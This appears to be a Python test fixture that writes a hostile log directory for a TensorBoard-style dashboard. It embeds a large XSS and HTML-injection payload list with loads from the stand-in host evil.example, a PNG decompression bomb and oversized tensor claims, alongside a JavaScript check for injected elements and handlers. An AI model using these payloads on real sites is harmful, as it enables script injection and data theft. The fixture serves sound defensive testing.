"""A log directory in which everything that can hold a text, a picture or a size is hostile.

What would run tells so in ``window.hacked``; what would ask for something asks a host of its own.
"""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Any

import event_files as ef
from array_events import curve_event, histogram_event
from audio_events import audio_event, tone, wav_by_hand, wav_of
from curve_logs import buckets, curve
from image_events import SIGNATURE, image_event, plain_png, png_header
from text_events import text_event

if TYPE_CHECKING:
    from pathlib import Path

HOST = "evil.example"
NUMBERS = itertools.count(1)


def _armed(text: str) -> str:
    """Put a script of its own in every place for one."""
    while "RUN" in text:
        text = text.replace("RUN", f"window.hacked={next(NUMBERS)}", 1)
    return text.replace("HOST", HOST)


_MARKDOWN = r"""
<script>RUN</script>
<script src=https://HOST/a.js></script>
<img src=x onerror=RUN>
<img/src=x/onerror=RUN//
<IMG SRC=x OnErRoR=RUN>
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='RUN'/>#x"></svg>
<math href="javascript:RUN">x</math>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<iframe src="https://HOST/frame"></iframe>
<object data="javascript:RUN"></object>
<object data="https://HOST/object"></object>
<embed src="https://HOST/embed">
<details open ontoggle=RUN>x</details>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<body onload=RUN>
<marquee onstart=RUN>x</marquee>
<video src="https://HOST/v.mp4"><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<x contenteditable onblur=RUN tabindex=1 autofocus>x</x>
<button onclick=RUN popovertarget=x>x</button>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<svg><style><img src=x onerror=RUN></style></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></math>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0aRUN</script>
<template><img src=x onerror=RUN></template>
<title><a title="</title><img src onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<!-- --><img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<!--!><img src=x onerror=RUN>--!>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml-stylesheet href="javascript:RUN"?>
<a href="javascript:RUN">x</a>
<a href=" &#14; javascript:RUN">x</a>
<a href="java&Tab;script:RUN">x</a>
<a href="https://HOST/ping" ping="https://HOST/ping" onmouseover=RUN>x</a>
[x](javascript:RUN)
[x](JaVaScRiPt:RUN)
[x](&#106;avascript:RUN)
[x](<java
script:RUN>)
[x](data:text/html,<script>RUN</script>)
[x](vbscript:RUN)
[x](https://HOST/"onmouseover="RUN)
[x](https://HOST/ "title\"onmouseover=\"RUN")
<javascript:RUN>
[ref]

[ref]: javascript:RUN
![x](x"onerror="RUN)
![x" onerror="RUN](x)
![x](https://HOST/picture.png)
![x](//HOST/picture.png)
![x](data:image/svg+xml,<svg onload=RUN>)
[![x](https://HOST/linked.png)](javascript:RUN)
<img src="https://HOST/picture.png" srcset="https://HOST/set.png 1x" loading=eager>
<picture><source srcset="https://HOST/source.png"><img src="https://HOST/in.png"></picture>
<input type=image src="https://HOST/input.png">
<table background="https://HOST/table.png"><tr><td background="https://HOST/td.png">x</table>
<link rel=stylesheet href="https://HOST/sheet.css">
<link rel=preload as=image href="https://HOST/preload.png">
<style>@import "https://HOST/import.css"; * { background: url(https://HOST/all.png) }</style>
<p style="background: url(https://HOST/style.png); position: fixed; inset: 0; z-index: 999">x</p>
<meta http-equiv=refresh content="0;url=https://HOST/refresh">
<base href="https://HOST/">
<form action="https://HOST/form" id=f><input name=hacked><button>x</button></form>
<a id=hacked></a><a id=hacked name=href href="https://HOST/clobber">x</a>
<form name=hacked><img name=cookie></form>
<img name=currentScript src=x><p id=jupyterapp name=jupyterapp>x</p>
<a data-commandlinker-command="notebook:run-all-cells" href="#">x</a>
<button data-commandlinker-command="apputils:reset" class="jp-mod-accept">x</button>
<p class="jp-Dialog lm-Widget" slot=x is=x part=x aria-label=x>x</p>
`<img src=x onerror=RUN>`
```html" onmouseover="RUN
<script>RUN</script>
```
# <svg/onload=RUN>
- <img src=x onerror=RUN>
| <img src=x onerror=RUN> |
|---|
| <script>RUN</script> |
<https://HOST/auto" onmouseover="RUN>
$$<img src=x onerror=RUN>$$
"""
#: What stands in several lines belongs together.
_JOINED = ("script:", "", "[ref]:", "<script>RUN</script>", "```", "|---|", "| <script>")


def _payloads() -> list[str]:
    found: list[str] = []
    for line in _MARKDOWN.strip("\n").split("\n"):
        follows = line.startswith(_JOINED[:1] + _JOINED[2:]) or not line
        inside = found and (found[-1].startswith("```") or line != "<script>RUN</script>")
        if found and inside and follows and not line.startswith("```html"):
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    deep = "<b>" * 600 + "<style><img src=x onerror=RUN></style>"
    found += [deep, ">" * 3_000 + " <img src=x onerror=RUN>", "[" * 2_000 + "](javascript:RUN)"]
    return [_armed(one) for one in found]


#: Each would run or fetch something if it came into the page as it is.
PAYLOADS = _payloads()
#: What stands in for tags, names of plugins, of charts and of files.
NAME = _armed("""x" onload="RUN"><img src=x onerror="RUN"><script>RUN</script>""")
RUN_NAME = _armed("""<img src=x onerror=RUN>"><svg onload=RUN><a href='javascript:RUN'>""")
GOOD = "good"
SVG = _armed("<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>")
HTML = _armed("<html><script>RUN</script><img src=https://HOST/html.png onerror=RUN></html>")
#: Images by tag, none of which is one to show.
IMAGES = {
    "a svg": SVG.encode(),
    "b html": HTML.encode(),
    "c bomb": SIGNATURE + png_header(40_000, 40_000) + bytes(100),
}
#: 22 bytes as they are written, and 2 GB as they claim.
CLAIM: dict[str, Any] = {
    "dtype": 1,
    "tensor_shape": {"dim": [{"size": 16_384}, {"size": 32_768}]},
    "float_val": [1.0],
}
CLAIMING_PLUGINS = ("tensor", "histograms", "pr_curves", "text", "images", "audio", "scalars")


#: What of the page is not as it must be, whatever is in a log.
ODDITIES = r"""() => {
  const found = [];
  if ('hacked' in window) found.push(`a script has run: ${window.hacked}`);
  const elements = (words) => new Set(words.split(' '));
  const never = elements('script iframe frame object embed form link meta base math marquee');
  const inMarkdown = elements('ul ol li p pre code blockquote h1 h2 h3 h4 h5 h6 hr br strong em '
    + 'del a img table thead tbody td tr th button span mark');
  const addresses = elements('src srcset href xlink:href action data background poster');
  const plain = elements('class title type rel target start align');
  const allowed = { a: /^(?:https?:|mailto:|blob:)/, other: /^(?:blob:|data:image\/(?!svg)|#)/ };
  for (const element of deepAll('.tbw *')) {
    const where = element.outerHTML.slice(0, 200);
    const isMarkdown = element.parentElement?.closest('.markdown');
    if (never.has(element.localName) || isMarkdown && !inMarkdown.has(element.localName))
      found.push(`an element: ${where}`);
    for (const { name, value } of element.attributes) {
      const isAddress = addresses.has(name);
      if (/^on/i.test(name)) found.push(`a handler: ${where}`);
      if (isAddress && !(allowed[element.localName] ?? allowed.other).test(value))
        found.push(`an address: ${where}`);
      if (isMarkdown && !isAddress && !plain.has(name)) found.push(`an attribute: ${where}`);
    }
    if (isMarkdown && !/^(?:|code-\w+|picture)$/.test(element.className))
      found.push(`a class: ${where}`);
  }
  return found;
}"""
#: The tabs by name: what is to be seen of the good card, and of those that cannot be shown.
TABS: dict[str, tuple[str, str]] = {
    "Scalars": ("scalars", "p.points === 6"),
    "Distributions": ("histograms", "true"),
    "Histograms": ("histograms", "p.plots[0]?.sources?.[0]?.steps.length === 3"),
    "PR curves": ("pr_curves", "true"),
    "Images": ("images", "p.drawn.length === 2 && p.drawn.every((o) => o.loaded)"),
    "Audio": ("audio", "p.drawn.length === 2 && p.drawn.every((o) => o.bytes && !o.error)"),
    "Text": ("text", "p.drawn.length === 2 && p.drawn.every((o) => o.elements?.length === 1)"),
    "Tensors": ("tensors", "String(p.slice?.values) === '2,2'"),
}


def tags_of(kind: str) -> tuple[str, str]:
    """Return the tags of the good and of the hostile series of a kind."""
    return f"{GOOD}/{kind}", f"{NAME} {kind}"


def _values(steps: range) -> list[bytes]:
    """Return events of good values of all kinds, under good and under hostile tags."""
    clip = wav_of(tone(440))
    makers = {
        "scalars": lambda step, tag: ef.scalar(step, step, tag),
        "histograms": lambda step, tag: histogram_event(step, buckets(step), tag),
        "pr_curves": lambda step, tag: curve_event(step, curve(step), tag),
        "images": lambda step, tag: image_event(step, [plain_png(8, 8, (0, 90, 200))], tag),
        "audio": lambda step, tag: audio_event(step, [clip], tag, [b"**fine**"]),
        "text": lambda step, tag: text_event(step, f"**step** {step}", tag),
        "tensors": _tensor,
    }
    return [
        make(step, tag) for step in steps for kind, make in makers.items() for tag in tags_of(kind)
    ]


def _tensor(step: int, tag: str) -> bytes:
    values = {"dtype": 1, "tensor_shape": {"dim": [{"size": 2}]}, "float_val": [step, 2.0]}
    metadata = ef.plugin(NAME, summary_description="\n\n".join(PAYLOADS), display_name=NAME)
    return ef.summary(step, {"tag": tag, "metadata": metadata, "tensor": values})


def _hostile_values() -> list[bytes]:
    clip = wav_of(tone(440))
    events = [image_event(0, [data], tag) for tag, data in IMAGES.items()]
    events += [
        audio_event(0, [wav_by_hand(bytes(2_000), rate=0)], "clip rate"),
        audio_event(0, [HTML.encode()], "clip html"),
        audio_event(0, [clip], "clip label", ["\n\n".join(PAYLOADS).encode()]),
        text_event(0, PAYLOADS, "elements"),
        text_event(0, "\n\n".join(PAYLOADS), "joined"),
        *(text_event(step, payload, "payloads") for step, payload in enumerate(PAYLOADS)),
    ]
    for plugin in CLAIMING_PLUGINS:
        for kind, claim in (("floats", CLAIM), ("strings", {**CLAIM, "dtype": 7})):
            value = {"tag": f"claim {kind} {plugin}", "metadata": ef.plugin(plugin)}
            events.append(ef.summary(0, {**value, "tensor": claim}))
    return events


def write(root: Path) -> None:
    """Write the log directory: a good run, a hostile one, and a file that is damaged."""
    for run in (GOOD, RUN_NAME):
        events = [ef.file_version(), *_values(range(3))]
        ef.write(root / run / ef.NAME, *map(ef.record, events))
    name = f"{ef.NAME}.{_armed('<img src=x onerror=RUN>')}"
    damaged = ef.record(ef.scalar(9, 9.0, "damaged"), bad_data_crc=1)
    content = [*map(ef.record, _hostile_values()), damaged]
    ef.write(root / RUN_NAME / name, ef.record(ef.file_version()), *content)
    plugin = root / RUN_NAME / "plugins" / _armed("<img src=x onerror=RUN>")
    plugin.mkdir(parents=True)
    (plugin / "file").write_bytes(b"")
